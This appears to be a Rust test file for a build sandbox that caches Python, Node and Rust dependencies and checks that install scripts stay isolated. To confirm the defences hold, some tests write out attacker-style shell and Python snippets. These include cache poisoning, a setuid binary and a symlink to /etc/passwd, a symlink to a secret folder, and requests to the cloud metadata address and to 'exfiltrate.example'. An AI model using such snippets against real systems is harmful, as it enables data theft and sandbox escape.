//! Dependencies: installed once with network, used without.

use crate::kit::Scene;
use keiko_contracts::action::{Outcome, Probe};
use keiko_contracts::id::{EffectKey, TaskId};
use keiko_contracts::jail::{
    End, JailAction, JailBody, JailOp, JailReport, Packages, Preparation, Prepare, PreparedSet,
    Toolchain,
};
use keiko_ports::Cancel;
use keiko_ports::perform::Perform as _;

fn reachable(test: &str, program: &str) -> bool {
    let found = std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default())
        .any(|p| p.join(program).is_file());
    if !found {
        eprintln!("SKIPPED: {test}: {program} is not installed: install {program}");
    }
    found
}

/// One set, for the project at the root.
pub(crate) fn installation(toolchain: Toolchain, commands: Vec<Vec<String>>, key: &str) -> JailOp {
    let (dirs, packages) = (vec![String::new()], Packages::default());
    let set = Preparation {
        toolchain,
        dirs,
        commands,
        cache_key: key.into(),
        packages,
        registries: vec![],
        cached: false,
    };
    JailOp::Prepare(Prepare { sets: vec![set] })
}

fn only(report: JailReport) -> PreparedSet {
    match report.body {
        JailBody::Prepared(prepared) if prepared.sets.len() == 1 => {
            prepared.sets.into_iter().next().unwrap()
        }
        other => panic!("{other:?}"),
    }
}

/// Installs, and says if the registry cannot be reached.
pub(crate) async fn prepared(
    scene: &Scene,
    test: &str,
    toolchain: Toolchain,
    key: &str,
    script: &str,
) -> Option<bool> {
    let commands = vec![vec!["sh".to_owned(), "-ec".to_owned(), script.to_owned()]];
    let report = scene.done(installation(toolchain, commands, key)).await;
    let PreparedSet {
        cached,
        log,
        exit_code,
        ..
    } = only(report);
    if exit_code != 0 {
        let log = log.text_or_empty();
        let offline = [
            "resolve",
            "Temporary failure",
            "ENOTFOUND",
            "EAI_AGAIN",
            "Connection",
            "timed out",
        ]
        .iter()
        .any(|s| log.contains(s));
        assert!(offline, "{log}");
        eprintln!(
            "SKIPPED: {test}: the package registry cannot be reached: connect to the network"
        );
        return None;
    }
    Some(cached)
}

#[tokio::test]
async fn a_python_package_is_there_offline_afterwards() {
    let test = "a_python_package_is_there_offline_afterwards";
    let Some(mut scene) = Scene::new(test) else {
        return;
    };
    if !reachable(test, "python3") {
        return;
    }
    scene.repository(&[("requirements.txt", "six==1.16.0\n")]);
    scene.open(true).await;
    let script = "python3 -m venv /cache/python/k1/venv && /cache/python/k1/venv/bin/pip install -q -r requirements.txt";
    let Some(cached) = prepared(&scene, test, Toolchain::Python, "k1", script).await else {
        return;
    };
    assert!(!cached);
    let check = "python -c 'import six; print(six.__version__, six.__file__)'; touch /cache/python/k1/x; python -m pip install attrs";
    let (exec, _) = scene.sh(check).await;
    assert!(
        exec.stdout
            .text_or_empty()
            .starts_with("1.16.0 /cache/python/k1/venv"),
        "{exec:?}"
    );
    assert!(
        exec.stderr.text_or_empty().contains("Read-only") && exec.end != End::Exit(0),
        "{exec:?}"
    );
    scene.run = keiko_contracts::id::RunId::from_bytes([8; 10]);
    scene.open(true).await;
    assert_eq!(
        prepared(&scene, test, Toolchain::Python, "k1", "exit 1").await,
        Some(true),
        "the second run takes it from the cache"
    );
    scene.restarted(test);
    let (exec, _) = scene.sh("python -c 'import six'").await;
    assert_eq!(exec.end, End::Exit(0), "{exec:?}");
}

#[tokio::test]
async fn a_node_package_is_there_offline_afterwards() {
    let test = "a_node_package_is_there_offline_afterwards";
    let Some(scene) = Scene::new(test) else {
        return;
    };
    if !reachable(test, "npm") {
        return;
    }
    scene.repository(&[
        (
            "package.json",
            r#"{"name":"x","version":"1.0.0","dependencies":{"is-number":"7.0.0"}}"#,
        ),
        (".gitignore", "node_modules\n"),
    ]);
    scene.open(true).await;
    let script = "cp package.json /cache/node/k1/ && npm install --silent --prefix /cache/node/k1";
    if prepared(&scene, test, Toolchain::Node, "k1", script)
        .await
        .is_none()
    {
        return;
    }
    let (exec, _) = scene
        .sh("node -e 'console.log(require(\"is-number\")(5))'")
        .await;
    assert_eq!(exec.stdout.text_or_empty(), "true\n", "{exec:?}");
}

#[tokio::test]
async fn a_crate_is_there_offline_afterwards() {
    let test = "a_crate_is_there_offline_afterwards";
    let Some(scene) = Scene::new(test) else {
        return;
    };
    if !reachable(test, "cargo") {
        return;
    }
    let manifest = "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\nitoa = \"=1.0.11\"\n";
    scene.repository(&[
        ("Cargo.toml", manifest),
        (
            "src/main.rs",
            "fn main() { print!(\"{}\", itoa::Buffer::new().format(42)); }\n",
        ),
        (".gitignore", "target\n"),
    ]);
    scene.open(true).await;
    if prepared(&scene, test, Toolchain::Rust, "k1", "cargo fetch")
        .await
        .is_none()
    {
        return;
    }
    let (exec, _) = scene.sh("cargo run -q").await;
    assert_eq!(exec.stdout.text_or_empty(), "42", "{exec:?}");
}

#[tokio::test]
async fn a_failed_installation_leaves_nothing_and_commands_have_no_network() {
    let test = "a_failed_installation_leaves_nothing";
    let Some(scene) = Scene::new(test) else {
        return;
    };
    scene.repository(&[("a", "a")]);
    scene.open(true).await;
    let commands = vec![vec![
        "sh".into(),
        "-c".into(),
        "echo trying; echo half > /cache/python/k9/half; exit 7".into(),
    ]];
    let report = scene
        .done(installation(Toolchain::Python, commands, "k9"))
        .await;
    let set = only(report);
    assert!(
        set.exit_code == 7 && !set.cached && set.log.text_or_empty().contains("trying"),
        "{set:?}"
    );
    let (exec, _) = scene
        .sh("ls /cache/python/k9; cat /proc/net/dev | grep -c :")
        .await;
    assert!(
        exec.stderr.text_or_empty().contains("No such file")
            && exec.stdout.text_or_empty() == "1\n",
        "{exec:?}"
    );
    let fault = scene
        .failed(installation(Toolchain::Go, vec![], "../x"))
        .await;
    assert_eq!(fault.code, "KEI-5130");
}

#[tokio::test]
async fn what_a_survey_asks_for_is_enough() {
    let test = "what_a_survey_asks_for_is_enough";
    let Some(scene) = Scene::new(test) else {
        return;
    };
    if !["python3", "npm", "cargo"]
        .iter()
        .all(|p| reachable(test, p))
    {
        return;
    }
    let manifest = "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\nitoa = \"=1.0.11\"\n";
    scene.repository(&[
        ("py/requirements.txt", "toolz==0.12.1\n"),
        ("py/test_x.py", "import toolz\n"),
        ("web/package.json", r#"{"name":"x","version":"1.0.0","scripts":{"test":"node --test"},"dependencies":{"is-number":"7.0.0"}}"#),
        ("web/it.test.js", "require('is-number');\n"),
        ("rs/Cargo.toml", manifest),
        ("rs/src/main.rs", "fn main() { print!(\"{}\", itoa::Buffer::new().format(42)); }\n"),
        (".gitignore", "node_modules\ntarget\n"),
    ]);
    let start = scene.open(true).await.tree;
    let JailBody::Surveyed(survey) = scene.done(JailOp::Survey).await.body else {
        panic!()
    };
    for project in survey.projects.iter().filter(|p| p.needs_prepare) {
        let op = JailOp::Prepare(Prepare {
            sets: project.preparation.clone().into_iter().collect(),
        });
        let report = scene.done(op).await;
        let PreparedSet { log, exit_code, .. } = only(report);
        if exit_code != 0 {
            assert!(
                ["resolve", "ENOTFOUND", "EAI_AGAIN", "Connection"]
                    .iter()
                    .any(|s| log.text_or_empty().contains(s)),
                "{}",
                log.text_or_empty()
            );
            eprintln!(
                "SKIPPED: {test}: the package registry cannot be reached: connect to the network"
            );
            return;
        }
    }
    let script = "python -c 'import toolz; print(toolz.__version__)'; (cd web && node -p 'require(\"is-number\")(5)'); (cd rs && cargo run -q)";
    let (exec, _) = scene.sh(script).await;
    assert_eq!(exec.stdout.text_or_empty(), "0.12.1\ntrue\n42", "{exec:?}");
    let JailBody::Surveyed(survey) = scene.done(JailOp::Survey).await.body else {
        panic!()
    };
    let open: Vec<_> = survey
        .projects
        .iter()
        .filter(|p| p.needs_prepare)
        .map(|p| &p.dir)
        .collect();
    assert!(open.is_empty(), "{open:?}");
    let diff = scene
        .done(JailOp::Diff {
            from: start,
            to: None,
        })
        .await;
    let JailBody::Text(diff) = diff.body else {
        panic!()
    };
    assert!(
        !diff.text.text_or_empty().contains("node_modules"),
        "{}",
        diff.text.text_or_empty()
    );
}

/// After a crash nobody runs an install script again that came to its end; one that did not is done again.
#[tokio::test]
async fn whether_an_installation_came_to_its_end_can_be_asked() {
    let test = "whether_an_installation_came_to_its_end";
    let Some(mut scene) = Scene::new(test) else {
        return;
    };
    scene.repository(&[("requirements.txt", "six\n")]);
    let tree = scene.open(true).await.tree;
    let action = |text: &str| {
        let op = installation(Toolchain::Python, script(text), "k1");
        JailAction {
            workspace: scene.run,
            op,
            tree: Some(tree.clone()),
        }
    };
    let key = EffectKey {
        run: scene.run,
        task: TaskId::main(),
        attempt: 1,
        step: 1,
        ordinal: 0,
    };
    let (text, other) = (
        action("mkdir /cache/python/k1/venv; echo 1 > /cache/python/k1/venv/mark"),
        action("true").op,
    );
    assert_eq!(scene.sandbox.probe(&key, &text).await, Probe::DidNot);
    assert_eq!(
        exit_code(&scene, Toolchain::Python, "k1", "exit 3").await.1,
        3
    );
    assert_eq!(
        scene.sandbox.probe(&key, &text).await,
        Probe::DidNot,
        "what failed is not there"
    );
    assert_eq!(
        scene
            .perform(text.op.clone(), Some(tree.clone()), Cancel::new())
            .await
            .map(|report| report.tree.is_some()),
        Outcome::Done(true)
    );
    scene.restarted(test);
    let found = scene
        .sandbox
        .probe(&key, &JailAction { op: other, ..text })
        .await;
    let Probe::Happened(report) = found else {
        panic!("{found:?}")
    };
    assert!(report.tree.is_some());
    let set = only(report);
    assert!(set.cached && set.exit_code == 0, "{set:?}");
    let (exec, _) = scene.sh("cat /cache/python/k1/venv/mark").await;
    assert_eq!(
        exec.stdout.text_or_empty(),
        "1\n",
        "the workspace uses what was found: {exec:?}"
    );
}

/// What an attacker writes in an install script, and in another project with the very same manifests.
fn script(text: &str) -> Vec<Vec<String>> {
    vec![vec!["sh".into(), "-ec".into(), text.into()]]
}

async fn exit_code(
    scene: &Scene,
    toolchain: Toolchain,
    key: &str,
    text: &str,
) -> (bool, i32, String) {
    let report = scene.done(installation(toolchain, script(text), key)).await;
    let PreparedSet {
        cached,
        log,
        exit_code,
        ..
    } = only(report);
    (cached, exit_code, log.text_or_empty().to_owned())
}

#[tokio::test]
async fn what_one_project_installed_is_never_given_to_another() {
    let Some(mut scene) = Scene::new("what_one_project_installed") else {
        return;
    };
    scene.repository(&[("requirements.txt", "six\n")]);
    scene.open(true).await;
    let poison = "mkdir -p /cache/python/k1/venv; echo poisoned > /cache/python/k1/venv/mark";
    assert!(!exit_code(&scene, Toolchain::Python, "k1", poison).await.0);
    // The same manifests in another folder.
    let first = std::mem::replace(&mut scene.user, scene.dir.path().join("victim"));
    std::fs::create_dir(&scene.user).unwrap();
    scene.repository(&[("requirements.txt", "six\n")]);
    scene.run = keiko_contracts::id::RunId::from_bytes([8; 10]);
    scene.open(true).await;
    let (cached, code, _) = exit_code(
        &scene,
        Toolchain::Python,
        "k1",
        "ls -A /cache/python/k1; test ! -e /cache/python/k1/venv",
    )
    .await;
    assert_eq!(
        (cached, code),
        (false, 0),
        "the other project's folder was given"
    );
    let (exec, _) = scene
        .sh("cat /cache/python/k1/venv/mark; ls /cache/python")
        .await;
    assert_eq!(exec.stdout.text_or_empty(), "k1\n", "{exec:?}");
    // The first project still has its own, also over a link to its folder.
    std::os::unix::fs::symlink(&first, scene.dir.path().join("alias")).unwrap();
    scene.user = scene.dir.path().join("alias");
    scene.run = keiko_contracts::id::RunId::from_bytes([9; 10]);
    scene.open(true).await;
    assert!(exit_code(&scene, Toolchain::Python, "k1", "exit 1").await.0);
}

#[tokio::test]
async fn what_is_installed_is_nobodys_to_change() {
    use std::os::unix::fs::MetadataExt as _;
    let test = "what_is_installed_is_nobodys_to_change";
    let Some(scene) = Scene::new(test) else {
        return;
    };
    scene.repository(&[("requirements.txt", "six\n")]);
    scene.open(true).await;
    let text = "cd /cache/python/k1; mkdir -p venv/bin; echo x > venv/f; echo 'echo tool' > venv/bin/tool; chmod 700 venv/bin/tool venv; chmod 600 venv/f; ln -s /etc/passwd venv/l; cp /usr/bin/id venv/id; chmod 6755 venv/id";
    assert_eq!(exit_code(&scene, Toolchain::Python, "k1", text).await.1, 0);
    let (exec, _) = scene.sh("cd /cache/python/k1/venv && cat f && sh bin/tool; echo y > f; rm f; touch new; chmod 777 .; true").await;
    assert_eq!(exec.stdout.text_or_empty(), "x\ntool\n", "{exec:?}");
    let sets = scene.dir.path().join("cache/deps/python");
    let set = std::fs::read_dir(&sets)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| p.is_dir())
        .unwrap();
    for file in ["venv/f", "venv/bin/tool", "venv/id"] {
        let mode = std::fs::metadata(set.join(file)).unwrap().mode();
        assert_eq!(mode & 0o7222, 0, "{file}: {mode:o}");
    }
    if !rustix::process::geteuid().is_root() {
        // Nobody else can take files over: the read-only mount and Landlock are what holds then, as tried above.
        return;
    }
    // Even a jail that was given the folder to write, by a mistake of ours, cannot.
    let jail = crate::kit::jail(test).unwrap();
    let mount = keiko_sandbox::spec::Mount {
        host: set.clone(),
        inside: "/set".into(),
        writable: true,
    };
    let spec = keiko_sandbox::spec::JailSpec {
        argv: ["/bin/sh", "-c", "cd /set/venv; (echo y > f) 2>/dev/null && echo wrote; rm -f f 2>/dev/null && echo removed; touch new 2>/dev/null && echo made; chmod 777 . 2>/dev/null && echo opened; cat f"]
            .map(str::to_owned)
            .into(),
        cwd: "/tmp".into(),
        env: Default::default(),
        mounts: vec![mount],
        limits: Default::default(),
        network: Default::default(),
        links: vec![],
        stdin: vec![],
    };
    let output = jail
        .run(
            spec,
            keiko_ports::live::LiveSink::none(),
            keiko_ports::Cancel::new(),
        )
        .await
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&output.stdout.head),
        "x\n",
        "{output:?}"
    );
}

#[tokio::test]
async fn a_link_in_place_of_installed_modules_leads_nowhere() {
    let Some(scene) = Scene::new("a_link_in_place_of_installed_modules") else {
        return;
    };
    let secret = scene.dir.path().join("secret");
    std::fs::create_dir(&secret).unwrap();
    std::fs::write(secret.join("index.js"), "canary").unwrap();
    use std::os::unix::fs::PermissionsExt as _;
    for folder in [scene.dir.path(), &secret] {
        std::fs::set_permissions(folder, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    scene.repository(&[
        ("package.json", r#"{"name":"x","dependencies":{"a":"1"}}"#),
        (".gitignore", "node_modules\n"),
    ]);
    scene.open(true).await;
    let JailBody::Surveyed(survey) = scene.done(JailOp::Survey).await.body else {
        panic!()
    };
    let key = survey.projects[0]
        .preparation
        .as_ref()
        .unwrap()
        .cache_key
        .clone();
    let text = format!(
        "rm -rf /cache/node/{key}/node_modules; ln -s {} /cache/node/{key}/node_modules",
        secret.display()
    );
    assert_eq!(exit_code(&scene, Toolchain::Node, &key, &text).await.1, 0);
    let (exec, _) =
        scene.sh(&format!("cat node_modules/index.js /cache/node/{key}/node_modules/index.js; ls node_modules; echo end")).await;
    assert_eq!(exec.stdout.text_or_empty(), "end\n", "{exec:?}");
}

#[tokio::test]
async fn an_install_script_reaches_registries_and_nothing_else() {
    let Some(scene) = Scene::new("an_install_script_reaches_registries") else {
        return;
    };
    let host = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    host.set_nonblocking(true).unwrap();
    let port = host.local_addr().unwrap().port();
    scene.repository(&[("a", "a")]);
    scene.open(true).await;
    let text = format!(
        "cat > /tmp/t.py <<'E'
import os, socket, urllib.request
def direct(to):
    try: socket.create_connection(to, timeout=3); return 'ok'
    except OSError as e: return 'no'
print([direct(to) for to in [('127.0.0.1', {port}), ('169.254.169.254', 80), ('1.1.1.1', 53), ('192.168.0.1', 80)]])
for url in ['http://127.0.0.1:{port}/', 'http://169.254.169.254/latest/meta-data/', 'http://exfiltrate.example/?key=1']:
    try: print(urllib.request.urlopen(url, timeout=20).status)
    except urllib.error.HTTPError as e: print(e.code)
print(sorted(k for k, v in os.environ.items() if v == 'http://127.0.0.1:3128')[:3], 'NO_PROXY' in os.environ)
E
/usr/bin/python3 /tmp/t.py"
    );
    let (_, code, log) = exit_code(&scene, Toolchain::Python, "k1", &text).await;
    assert_eq!(code, 0, "{log}");
    assert!(log.contains("['no', 'no', 'no', 'no']\n403\n403\n403\n['ALL_PROXY', 'CARGO_HTTP_PROXY', 'HTTPS_PROXY'] False\n"), "{log}");
    assert!(
        log.contains("refused connections while installing")
            && log.contains("exfiltrate.example:80: it is not on the list"),
        "{log}"
    );
    assert!(host.accept().is_err(), "the host's server was reached");
}

#[tokio::test]
async fn what_was_built_in_the_workspace_is_there_for_later_runs() {
    let Some(mut scene) = Scene::new("what_was_built_in_the_workspace") else {
        return;
    };
    scene.repository(&[(".gitignore", "*.so\n_version.py\n"), ("a.py", "")]);
    scene.open(true).await;
    let build = "mkdir -p pkg && echo built > pkg/fast.so && echo evil > test_b.py && tar -cf /cache/python/k1/built.tar pkg test_b.py";
    let install = || {
        installation(
            Toolchain::Python,
            vec![vec!["sh".to_owned(), "-ec".to_owned(), build.to_owned()]],
            "k1",
        )
    };
    assert!(!only(scene.done(install()).await).cached);
    let (first, tree) = scene.sh("cat pkg/fast.so; ls").await;
    assert_eq!(
        first.stdout.text_or_empty(),
        "built\na.py\npkg\n",
        "{first:?}"
    );
    scene.run = keiko_contracts::id::RunId::from_bytes([8; 10]);
    scene.open(true).await;
    assert!(only(scene.done(install()).await).cached);
    let (later, same) = scene.sh("cat pkg/fast.so; ls").await;
    assert_eq!(
        (later.stdout.text_or_empty(), same),
        ("built\na.py\npkg\n", tree),
        "{later:?}"
    );
}

#[tokio::test]
async fn a_test_binary_that_hangs_is_ended_and_what_it_said_stays() {
    let Some(scene) = Scene::new("a_test_binary_that_hangs") else {
        return;
    };
    scene.repository(&[("a", "")]);
    scene.open(true).await;
    let watch = "/.keiko/keiko jail-watch 1 sh -c";
    let (exec, _) = scene
        .sh(&format!(
            "{watch} 'echo one; sleep 0.6; echo two; sleep 0.6; echo three; exit 3'; echo $?"
        ))
        .await;
    assert_eq!(
        exec.stdout.text_or_empty(),
        "one\ntwo\nthree\n3\n",
        "{exec:?}"
    );
    let (exec, _) = scene
        .sh(&format!(
            "{watch} 'printf \"test a ... \"; sleep 60 & wait'; echo $?"
        ))
        .await;
    let said = "test a ... \nkeiko: no test ended within 1 s, so this binary was ended\n124\n";
    assert!(
        exec.stdout.text_or_empty() == said && exec.duration_ms < 20_000,
        "{exec:?}"
    );
    let (exec, _) = scene
        .sh(&format!(
            "{watch} 'kill -SEGV $$'; echo $?; {watch} 'sleep 30 & echo early'; echo $?"
        ))
        .await;
    assert_eq!(exec.stdout.text_or_empty(), "139\nearly\n0\n", "{exec:?}");
}
